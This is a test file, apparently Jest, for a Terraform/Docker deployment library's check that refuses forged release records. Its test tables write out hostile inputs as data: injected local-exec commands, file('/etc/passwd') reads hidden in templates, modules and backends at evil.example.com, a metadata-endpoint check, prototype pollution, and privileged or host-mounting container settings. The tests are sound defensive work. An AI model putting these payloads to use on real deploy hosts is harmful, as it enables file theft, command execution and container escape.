import { Refusal } from "../../../../cli/failure";
import { acceptRecord } from "../../../../cli/releases/accept/accept";
import type { Synthesized } from "../../../../cli/synthesized";
import { Apache, AppServer, ContainerImage, Database, Django, type IDatabaseEngine, type IReverseProxyEngine, MariaDb, MySql, Nginx, Postgres, ReverseProxy, Secret, StackOutputs, Tls, WebFramework } from "../../../../lib";
import { expectCanBePutBack } from "../../../support/put-back";
import { Shop } from "../../../support/shop";
import { newApp, newStack, synth } from "../../../support/synth";
import { recordOf } from "../records";

describe("what the library writes is put back as it was", () => {
  const databases: readonly IDatabaseEngine[] = [new Postgres(), new MySql(), new MariaDb()];
  const proxies: readonly IReverseProxyEngine[] = [new Nginx(), new Apache()];

  test.each(databases.flatMap((database) => proxies.map((proxy) => [database.constructor.name, proxy.constructor.name, database, proxy] as const)))("%s behind %s", (_, __, database, proxy) => {
    expectCanBePutBack(new Shop({ database: { engine: database }, proxy: { engine: proxy } }).synth().text);
  });

  test("two stacks, of which one looks up the network of the other", () => {
    const app = newApp();
    const [data, web] = ["data", "web"].map((id) => newStack(id, app));
    const database = new Database(data, "Database");
    const framework = new WebFramework(web, "Site", { engine: new Django({ project: "shop" }), image: ContainerImage.fromRegistry("shop:1"), database });
    new ReverseProxy(web, "Proxy", { upstream: new AppServer(web, "AppServer", { framework }), serverNames: ["shop.example.com"], tls: Tls.none() });
    [data, web].forEach((stack) => expectCanBePutBack(synth(stack).text));
  });

  test("secrets of every kind, built images, odd texts and outputs", () => {
    const shop = new Shop({
      framework: {
        image: ContainerImage.fromPythonProject("examples/shop"),
        environment: { TEMPLATE: "${x} $${y} $$${z} %{ if true } %%{", PRICE: "5$" },
        secrets: { TOKEN: Secret.fromHostFile("/etc/shop/token"), KEY: Secret.named("stripe"), OLD: Secret.generated() },
      },
    });
    new StackOutputs(shop.stack, "Outputs");
    expectCanBePutBack(shop.synth().text);
  });

  test("settings that a user overrode by plain values", () => {
    const shop = new Shop();
    const [container] = shop.stack.node.findAll().filter((one) => one.node.path === "shop/AppServer/Replica0");
    (container as unknown as { addOverride(path: string, value: unknown): void }).addOverride("dns", ["10.0.0.53"]);
    expectCanBePutBack(shop.synth().text);
  });
});

const CONTAINER = { name: "a", image: "a:1" };
const DATA = { terraform_data: { D: { input: { format: "x" }, triggers_replace: { volume: "v" } } } };

function accept(content: object, present: object = {}): Synthesized {
  return acceptRecord(recordOf("20261101000000-aaaa1111", content), present).content;
}

const container = (more: object) => ({ resource: { docker_container: { A: { ...CONTAINER, ...more } } } });

describe("what a forged record has run or read on the machine that deploys is refused", () => {
  const run = (command: string) => container({ provisioner: [{ "local-exec": { command } }] });
  const check = (echo: string) => run(`\${self.exit_code == 0 ? "exit 0" : "echo ${echo} && exit \${self.exit_code}"}`);
  const env = (value: string) => container({ env: [`A=${value}`] });

  test.each<[string, object, string]>([
    ["a provisioner", run("touch /tmp/forged"), "'provisioner.local-exec.command' of docker_container.A"],
    ["one that looks like the library's", check("x; touch /tmp/forged; failed - its log: docker logs ${self.name}"), "'provisioner.local-exec.command'"],
    ["one whose name is another expression", check('x failed - its log: docker logs ${file("/etc/passwd")}'), "'provisioner.local-exec.command'"],
    ["one with a second command behind it", check("x failed - its log: docker logs ${self.name} && touch /tmp/forged"), "'provisioner.local-exec.command'"],
    ["one in another shell", container({ provisioner: [{ "local-exec": { command: "exit 0", interpreter: ["python3", "-c"] } }] }), "'provisioner.local-exec"],
    ["one of another kind", container({ provisioner: [{ "file": { source: "/etc/passwd" } }] }), "'provisioner.file'"],
    ["one beside what the state keeps", { resource: { terraform_data: { D: { ...DATA.terraform_data.D, provisioner: [{ "local-exec": { command: "id" } }] } } } }, "of terraform_data.D"],
    ["a connection", container({ connection: { host: "x" } }), "'connection' of docker_container.A"],
    ["filebase64", container({ upload: { file: "/x", content_base64: '${filebase64("/etc/passwd")}' } }), "'upload.content_base64' of docker_container.A"],
    ["file in a variable", env('${file("/etc/passwd")}'), `'env' of docker_container.A holds "\${file(\\"/etc/passwd\\")}"`],
    ["templatefile", env('${templatefile("/etc/passwd", {})}'), "'env'"],
    ["a condition of a template", env('%{ if fileexists("/etc/passwd") }a%{ endif }'), "'env'"],
    ["a loop of a template", env("%{ for a in [1] }${a}%{ endfor }"), "'env'"],
    ["a directive that strips", env('%{~ if fileexists("/x") ~}a%{~ endif ~}'), "'env'"],
    ["an interpolation that strips", env('${~ file("/etc/passwd") ~}'), "'env'"],
    ["a heredoc", env('${<<E\n${file("/etc/passwd")}\nE\n}'), "'env'"],
    ["one that an escape seems to hide", env('$${"$"}${file("/etc/passwd")}'), "'env'"],
    ["one behind three dollars", env('$$${"x"}${file("/x")}'), "'env'"],
    ["one inside a reference", env('${docker_container.A[file("/etc/passwd")]}'), "'env'"],
    ["one behind a reference", env('${docker_container.A.name == file("/x") ? 1 : 2}'), "'env'"],
    ["a path of this machine", env("${path.cwd}"), "'env'"],
    ["a variable of this machine's", env("${var.password}"), "'env'"],
    ["the workspace", env("${terraform.workspace}"), "'env'"],
    ["an environment variable of this machine", container({ env: ["AWS_SECRET_ACCESS_KEY"] }), "'env'"],
    ["a variable that is one by a reference alone", container({ env: ["${docker_container.A.name}"] }), "'env'"],
    ["a function in the name of a variable", container({ tmpfs: { '${file("/etc/passwd")}': "rw" } }), "'tmpfs'"],
    ["a reference to what is not there", env("${docker_container.B.name}"), "'env'"],
    ["a reference to what the state keeps", { resource: { docker_container: { A: { ...CONTAINER, env: ["A=${terraform_data.D.output.format}"] } }, ...DATA } }, "'env'"],
    ["the source of an upload", container({ upload: [{ file: "/x", source: "/etc/passwd" }] }), "'upload.source' of docker_container.A"],
    ["dynamic blocks", container({ dynamic: { upload: { for_each: ["x"], content: { file: "/x", source: "/etc/passwd" } } } }), "'dynamic'"],
    ["copies", container({ for_each: '${fileset("/", "*")}' }), "'for_each'"],
    ["another provider", container({ provider: "docker.other" }), "'provider'"],
    ["a condition that reads", container({ lifecycle: { precondition: [{ condition: '${fileexists("/x")}', error_message: "x" }] } }), "'lifecycle.precondition.condition'"],
    ["words of a condition that read", { resource: { docker_container: { A: { ...CONTAINER, lifecycle: { precondition: { condition: '${terraform_data.D.output.format == "x"}', error_message: '${file("/x")}' } } } }, ...DATA } }, "'lifecycle.precondition.error_message'"],
    ["a postcondition", container({ lifecycle: { postcondition: [{ condition: "${true}", error_message: "x" }] } }), "'lifecycle.postcondition'"],
    ["an image that is an option", container({ image: "--env-file=/etc/passwd" }), "'image'"],
    ["an image to pull that is an option", { resource: { docker_image: { I: { name: "--config=/x" } } } }, "'name' of docker_image.I"],
    ["a build of the whole disk", { resource: { docker_image: { I: { name: "a:1", build: { context: "/" } } } } }, "'build.context' of docker_image.I"],
    ["a build above the assets", { resource: { docker_image: { I: { name: "a:1", build: { context: `assets/../${"0".repeat(64)}` } } } } }, "'build.context'"],
    ["triggers that read", { resource: { docker_image: { I: { name: "a:1", triggers: { x: '${filesha1("/x")}' } } } } }, "'triggers'"],
    ["an output that reads", { output: { o: { value: { a: ['${file("/etc/passwd")}'] } } } }, "'value.a' of output.o"],
    ["an output with a condition", { output: { o: { value: "", precondition: { condition: "${true}" } } } }, "'precondition' of output.o"],
    ["a data source of another type", { data: { external: { e: { program: ["touch", "/tmp/forged"] } } } }, "'type' of data.external.e"],
    ["a resource of another type", { resource: { null_resource: { n: { provisioner: [{ "local-exec": { command: "id" } }] } } } }, "'type' of null_resource.n"],
    ["another type of the same provider", { resource: { docker_registry_image: { r: { name: "evil.example.com/x" } } } }, "'type' of docker_registry_image.r"],
    ["a network looked up by a function", { data: { docker_network: { N: { name: '${file("/etc/passwd")}' } } } }, "'name' of data.docker_network.N"],
    ["a module", { module: { m: { source: "git::https://evil.example.com/m" } } }, "'module.m' of its record"],
    ["a provider", { provider: { docker: [{ host: "tcp://evil.example.com" }] } }, "'provider.docker'"],
    ["a place of the state", { terraform: { backend: { http: { address: "https://evil.example.com" } } } }, "'terraform.backend'"],
    ["locals", { locals: { x: '${file("/etc/passwd")}' } }, "'locals.x'"],
    ["a variable", { variable: { x: { default: "y" } } }, "'variable.x'"],
    ["an import", { import: [{ to: "docker_container.A", id: "x" }] }, "'import'"],
    ["a removal", { removed: { from: "docker_container.Database" } }, "'removed.from'"],
    ["a move", { moved: [{ from: "docker_container.A", to: "docker_container.B" }] }, "'moved'"],
    ["a check", { check: { c: { data: { http: { h: { url: "http://169.254.169.254/" } } } } } }, "'check.c'"],
    ["resources in a list", { resource: [{ docker_container: {} }] }, "'resource'"],
    ["several bodies of one resource", { resource: { docker_container: { A: [CONTAINER, { provisioner: [] }] } } }, "'body' of docker_container.A"],
    ["an id that is more than one", { resource: { docker_container: { "A.b": CONTAINER } } }, "'name' of docker_container.A.b"],
    ["a type that every object has", { resource: { constructor: { A: CONTAINER } } }, "'type' of constructor.A"],
    ["an attribute that every object has", JSON.parse('{"resource": {"docker_container": {"A": {"__proto__": {"privileged": true}}}}}') as object, "'__proto__'"],
  ])("%s", (_, content, message) => {
    expect(() => accept(content)).toThrow(Refusal);
    expect(() => accept(content)).toThrow(message);
  });

  test("the sentence names release, attribute and resource, and the way out", () => {
    expect(() => accept(env('${file("/etc/passwd")}'))).toThrow(
      new Refusal(
        "the release 20261101000000-aaaa1111 cannot be put back: 'env' of docker_container.A holds \"${file(\\\"/etc/passwd\\\")}\", which is neither text nor a " +
          "reference to a resource of the record; of a record, which comes from the Docker host, nothing is taken but what the library writes or the present " +
          "stack has in the same place; deploy that release's commit instead",
      ),
    );
  });
});

describe("what would give a container the Docker host", () => {
  test.each<[string, object]>([
    ["privileged", { privileged: true }],
    ["mounts.source", { mounts: [{ type: "bind", source: "/", target: "/host" }] }],
    ["volumes", { volumes: [{ host_path: "/", container_path: "/host" }] }],
    ["devices", { devices: [{ host_path: "/dev/sda" }] }],
    ["capabilities.add", { capabilities: { add: ["CAP_SYS_ADMIN"] } }],
    ["security_opts", { security_opts: ["seccomp=unconfined"] }],
    ["network_mode", { network_mode: "host" }],
    ["pid_mode", { pid_mode: "host" }],
  ])("%s is taken only where the present stack has the same", (attribute, more) => {
    expect(() => accept(container(more))).toThrow(`'${attribute}' of docker_container.A holds`);
    expect(accept(container(more), container(more))).toEqual(container(more));
  });
});

describe("what a user wrote into the stack", () => {
  const mine = { ...container({ env: ['A=${file("motd")}'] }), variable: { tag: { default: "1" } }, locals: { a: 1 } };
  const withOther = (name: string) => ({ ...mine, resource: { ...mine.resource, random_password: { P: { length: 20 } } }, [name]: { tag: { default: "2" } } });

  test("is put back where it has not changed since", () => {
    expect(accept(mine, mine)).toEqual(mine);
  });

  test("is refused where it has", () => {
    expect(() => accept(mine, container({ env: ['A=${file("other")}'] }))).toThrow("'env' of docker_container.A");
    expect(() => accept(withOther("variable"), mine)).toThrow("'type' of random_password.P is none that the library makes");
    expect(() => accept({ ...mine, variable: { tag: { default: "0" } } }, mine)).toThrow("'variable.tag' of its record");
  });
});

test("the check of a job that an earlier version wrote becomes that of this one", () => {
  const old = '${self.exit_code == 0 ? "exit 0" : "echo making secrets failed - its log: docker logs ${self.name} - set it by npx webstack && exit ${self.exit_code}"}';
  expect(accept(container({ provisioner: [{ "local-exec": { command: old } }] }))).toEqual(
    container({ provisioner: [{ "local-exec": { command: old.replace("${self.name}", '${replace(self.name, "/[^0-9A-Za-z_.-]/", "_")}') } }] }),
  );
});
